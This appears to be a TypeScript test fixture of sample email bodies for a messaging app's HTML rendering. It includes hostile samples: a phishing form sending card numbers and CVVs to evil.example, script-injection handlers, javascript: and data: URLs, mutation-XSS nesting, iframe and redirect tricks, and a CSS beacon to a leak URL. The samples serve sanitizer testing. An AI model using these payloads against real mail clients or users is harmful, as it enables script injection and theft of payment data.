/** A mail's body, and its text as a mail program shows it without markup. */
export type Mail = { text: string; html: string }

/**
 * Bodies of mails as mail programs write them: tables, quotes, lists, remote images, inline styles, hidden pixels, and
 * some that attack the reader. They are data for `content` and `content_html` (MSG-04), so each
 * text is that of its HTML. Every host is reserved and leads nowhere.
 */
const MAILS: Record<string, Mail> = {
  'bank-mail': {
    text: `Forwarding the bank’s mail as well, they say nothing has reached them:
Reference\tStatus
{utr}\tNot found
bank.example/trace/43298810`,
    html: `<p>Forwarding the bank’s mail as well, they say nothing has reached them:</p>
<table border="1" cellpadding="6" style="border-collapse:collapse"><thead><tr><th align="left">Reference</th><th align="left">Status</th></tr></thead><tbody><tr><td>{utr}</td><td>Not found</td></tr></tbody></table>
<p><a href="https://bank.example/trace/43298810">bank.example/trace/43298810</a></p>
<img src="https://img.bank.example/footer/logo.png" alt="Bank logo" width="180" height="40">`,
  },

  'mail-chain': {
    text: `Dear Team,

Please see the trailing mail. Credit note of {amount} against {order} is still awaited.
Invoice {order}-A, paid
Invoice {order}-B, disputed
2 pcs short
1 pc damaged
From: Accounts <accounts@kabirsons.example>
Sent: Monday 10:14
Subject: RE: RE: FW: pending
As discussed on call.
Kindly share the ledger.
Noted & thanks.`,
    html: `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name="Generator" content="Microsoft Word 15"><style><!-- @font-face {font-family:Calibri} p.MsoNormal {margin:0cm;font-size:11.0pt} body {background:#ff0 !important} --></style></head><body lang="EN-IN" link="#0563C1"><div class="WordSection1"><p class="MsoNormal"><span style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif;color:#1F497D">Dear Team,<o:p></o:p></span></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Please see the trailing mail. Credit note of <b>{amount}</b> against <u>{order}</u> is still awaited.</p>
<ol><li>Invoice {order}-A, paid</li><li>Invoice {order}-B, <span style="color:red">disputed</span><ul><li>2 pcs short</li><li>1 pc damaged</li></ul></li></ol>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b>From:</b> Accounts &lt;<a href="mailto:accounts@kabirsons.example">accounts@kabirsons.example</a>&gt;<br><b>Sent:</b> Monday 10:14<br><b>Subject:</b> RE: RE: FW: pending</p></div>
<blockquote type="cite" style="border-left:2px solid #ccc;padding-left:8px"><p>As discussed on call.</p><blockquote><p>Kindly share the ledger.</p><blockquote><p>Noted &amp; thanks.</p></blockquote></blockquote></blockquote></div></body></html>`,
  },

  'signature-mail': {
    text: `Received with thanks

--
{first}
Head of Purchase
+91 161 234 5678
kabirsons.example
This e-mail and any files are confidential. If you are not the intended recipient, delete it.`,
    html: `<div dir="ltr">Received with thanks<br clear="all"><div><br></div>-- <br><div class="gmail_signature"><table cellspacing="0"><tr><td style="padding-right:12px;border-right:3px solid #0a7"><img src="https://cdn.kabirsons.example/sig/logo.gif" width="96" height="96" alt=""></td><td style="padding-left:12px;font:12px/1.5 Georgia,serif"><b style="font-size:15px">{first}</b><br>Head of Purchase<br><a href="tel:+911612345678">+91 161 234 5678</a><br><a href="https://kabirsons.example/?utm_source=sig" style="color:#0a7">kabirsons.example</a></td></tr></table><p style="font-size:9px;color:#999">This e-mail and any files are confidential. If you are not the intended recipient, delete it.</p></div></div><img src="https://open.kabirsons.example/o/7f31.gif" width="1" height="1" style="display:none">`,
  },

  newsletter: {
    text: `Monsoon linen is here
From ₹3,499 ₹2,799
Shop now
Unsubscribe`,
    html: `<center><table width="600" bgcolor="#f6f1e7" align="center"><tr><td colspan="2" background="https://cdn.kaveriliving.example/n/hero.jpg" height="240"><h1 style="font-family:'Playfair Display';color:#fff;text-shadow:0 1px 2px #000">Monsoon linen is here</h1></td></tr><tr><td width="300"><img src="https://cdn.kaveriliving.example/n/1.jpg" width="280" srcset="https://cdn.kaveriliving.example/n/1@2x.jpg 2x" alt="Linen kurta"></td><td><p>From <s>₹3,499</s> <b>₹2,799</b></p><a href="https://kaveriliving.example/l?c=monsoon&amp;u={handle}" style="display:inline-block;background:#123;color:#fff;padding:12px 24px;border-radius:24px">Shop now</a></td></tr></table><p><a href="https://kaveriliving.example/unsubscribe?u={handle}">Unsubscribe</a></p></center><img src="https://t.kaveriliving.example/p.gif?u={handle}" width="1" height="1" alt="">`,
  },

  'phishing-mail': {
    text: `Dear costumer your parcel {awb} could not be delivered
Pay ₹25
Track parcel https://kaveriliving.example/track
Click`,
    html: `<p>Dear costumer your parcel {awb} could not be delivered</p><form action="https://evil.example/pay" method="post"><input name="card" placeholder="Card number"><input type="password" name="cvv"><button>Pay ₹25</button></form><p><a href="javascript:document.title='x'">Track parcel</a> <a href="https://evil.example/login" title="https://kaveriliving.example">https://kaveriliving.example/track</a></p><script>window.__seedScript = true</script><img src="x" onerror="window.__seedScript = true"><svg onload="window.__seedScript = true"><a xlink:href="javascript:void(0)"><text y="20">Click</text></a></svg>`,
  },

  'hostile-frame': {
    text: `See below`,
    html: `<p>See below</p><iframe src="https://evil.example/frame" srcdoc="<script>parent.__seedScript = true</script>"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css"><style>* { display: none !important } .app { background: url(https://evil.example/leak) }</style>`,
  },

  'hostile-names': {
    text: `Details
More`,
    html: `<div id="root" class="app inbox pane" style="position:fixed;inset:0;z-index:99999;background:#fff url('https://evil.example/bg.png')"><form name="location" id="body"><input name="attributes" autofocus onfocus="window.__seedScript = true"></form><a name="querySelector" href=" java&#10;script:window.__seedScript=true">Details</a><details open ontoggle="window.__seedScript = true"><summary>More</summary></details></div>`,
  },

  'hostile-nesting': {
    text: `Is the {item} still there?
photo
bold both italic`,
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__seedScript=true&gt;"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=window.__seedScript=true>"></noscript><p>Is the {item} still there?</p><a href="data:text/html,<script>alert(1)</script>" target="_top">photo</a><p unclosed <b>bold <i>both</b> italic`,
  },

  'web-table': {
    text: `Items for {order}
Item\tSize\tPieces
Bedsheet, white\tKing\t240
Single\t100
Pillow cover with a rather long description that has to break somewhere: 300 thread count, envelope closure, logo at the lower left corner\t17×27\t680
Total\t1,020
GSTIN    {gstin}
HSN      6302.31
Kindly confirm {order} 👆`,
    html: `<table class="MsoTableGrid"><caption>Items for {order}</caption><tr><th>Item</th><th>Size</th><th style="text-align:right">Pieces</th></tr><tr><td rowspan="2">Bedsheet, white</td><td>King</td><td align="right">240</td></tr><tr><td>Single</td><td align="right">100</td></tr><tr><td>Pillow cover with a rather long description that has to break somewhere: 300 thread count, envelope closure, logo at the lower left corner</td><td>17×27</td><td align="right">680</td></tr><tfoot><tr><td colspan="2"><b>Total</b></td><td align="right"><b>1,020</b></td></tr></tfoot></table><pre>GSTIN    {gstin}
HSN      6302.31
</pre><hr><p>Kindly confirm <code>{order}</code> 👆</p>`,
  },

  'rtl-mail': {
    text: `السادة الكرام،
نرجو إرسال الفاتورة التجارية للشحنة {awb} مع رمز HS 6302.31.
الاسم: {first}
المدينة: {city}
مع التحية`,
    html: `<div dir="rtl" style="font-family:Tahoma"><p>السادة الكرام،</p><p>نرجو إرسال <b>الفاتورة التجارية</b> للشحنة <bdi>{awb}</bdi> مع رمز <span dir="ltr">HS 6302.31</span>.</p><ul><li>الاسم: {first}</li><li>المدينة: {city}</li></ul><p>مع التحية</p></div>`,
  },

  'phone-html': {
    text: `अच्छा, +91 98450 11223 पर फ़ोन कीजिए या मेल भेजिए।
Sent from my phone`,
    html: `<p>अच्छा, <a href="tel:+919845011223">+91 98450 11223</a> पर फ़ोन कीजिए या <a href="mailto:{handle}@example.in?subject={order}&amp;body=नमस्ते">मेल</a> भेजिए।</p><p>Sent from my phone</p>`,
  },
}

/** The names of the mails that no dialogue asks for: they are strewn over customers' messages. */
export const UNSCRIPTED_MAILS = [
  'hostile-frame',
  'hostile-names',
  'hostile-nesting',
  'web-table',
  'rtl-mail',
  'phone-html',
]

/** The mail of that name with its placeholders still in it, or undefined. */
export function mailOf(name: string): Mail | undefined {
  return MAILS[name]
}
